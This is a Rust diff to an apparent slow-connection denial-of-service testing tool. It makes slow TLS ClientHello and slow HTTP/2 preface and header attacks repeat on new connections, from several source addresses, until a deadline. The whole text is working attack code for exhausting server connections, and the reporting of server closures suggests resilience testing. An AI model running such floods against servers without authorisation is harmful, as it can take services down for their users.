@@ -119,7 +119,8 @@ impl Report {
     }
 }
 
-/// Runs `attack` against `target` within `params`.
+/// Runs `attack` against `target` within `params`: `connections` tasks, each repeating the
+/// attack on a new connection until `duration` is over.
 pub async fn run(attack: Attack, target: &Target, params: Params) -> Report {
     let deadline = Instant::now() + params.duration;
     let mut tasks = Vec::with_capacity(params.connections);
@@ -127,10 +128,19 @@ pub async fn run(attack: Attack, target: &Target, params: Params) -> Report {
         let target = target.clone();
         let src = source(n, params.sources);
         tasks.push(tokio::spawn(async move {
-            let work = one(attack, &target, src, n, params, deadline);
-            timeout_at(deadline + Duration::from_secs(1), work)
-                .await
-                .unwrap_or_default()
+            // Each connection's attack is repeated on a new connection until the time is up.
+            let mut report = Report::default();
+            while Instant::now() < deadline {
+                let work = one(attack, &target, src, n, params, deadline);
+                let part = timeout_at(deadline + Duration::from_secs(3), work)
+                    .await
+                    .unwrap_or_default();
+                report.add(&part);
+                if part.connected == 0 {
+                    tokio::time::sleep(Duration::from_millis(100)).await;
+                }
+            }
+            report
         }));
     }
     let mut report = Report::default();
@@ -151,9 +161,9 @@ async fn one(
     deadline: Instant,
 ) -> Report {
     match attack {
-        Attack::SlowHello => slow_hello(target, src, params).await,
-        Attack::SlowPreface => slow_h2(target, src, params, false).await,
-        Attack::SlowHeaders => slow_h2(target, src, params, true).await,
+        Attack::SlowHello => slow_hello(target, src, params, deadline).await,
+        Attack::SlowPreface => slow_h2(target, src, params, false, deadline).await,
+        Attack::SlowHeaders => slow_h2(target, src, params, true, deadline).await,
         Attack::BigHello => big_hello(target, src, params, deadline).await,
         Attack::Idle => idle(target, src, deadline).await,
         Attack::Priority => {
@@ -221,7 +231,7 @@ async fn closed_within<R: AsyncRead + Unpin>(reader: &mut R, wait: Duration) -> 
     }
 }
 
-async fn slow_hello(target: &Target, src: IpAddr, params: Params) -> Report {
+async fn slow_hello(target: &Target, src: IpAddr, params: Params, deadline: Instant) -> Report {
     let mut report = Report::default();
     let (Ok(hello), Ok(mut tcp)) = (target.client_hello(), target.tcp(src).await) else {
         report.failed = 1;
@@ -229,6 +239,9 @@ async fn slow_hello(target: &Target, src: IpAddr, params: Params) -> Report {
     };
     report.connected = 1;
     for byte in hello.iter().take(params.count.max(1)) {
+        if Instant::now() >= deadline {
+            break;
+        }
         if tcp.write_all(&[*byte]).await.is_err() || closed_within(&mut tcp, params.interval).await
         {
             report.closed_by_server = 1;
@@ -241,7 +254,13 @@ async fn slow_hello(target: &Target, src: IpAddr, params: Params) -> Report {
 
 /// The preface, SETTINGS and a request one byte at a time (after sending the preface and
 /// SETTINGS at once when `quick_preface`).
-async fn slow_h2(target: &Target, src: IpAddr, params: Params, quick_preface: bool) -> Report {
+async fn slow_h2(
+    target: &Target,
+    src: IpAddr,
+    params: Params,
+    quick_preface: bool,
+    deadline: Instant,
+) -> Report {
     let mut report = Report::default();
     let Ok(mut tls) = target.tls(src, true).await else {
         report.failed = 1;
@@ -267,6 +286,9 @@ async fn slow_h2(target: &Target, src: IpAddr, params: Params, quick_preface: bo
         drip = &bytes[quick..];
     }
     for byte in drip.iter().take(params.count.max(1)) {
+        if Instant::now() >= deadline {
+            break;
+        }
         let wrote = tls.write_all(&[*byte]).await.and(tls.flush().await);
         if wrote.is_err() || closed_within(&mut tls, params.interval).await {
             report.closed_by_server = 1;
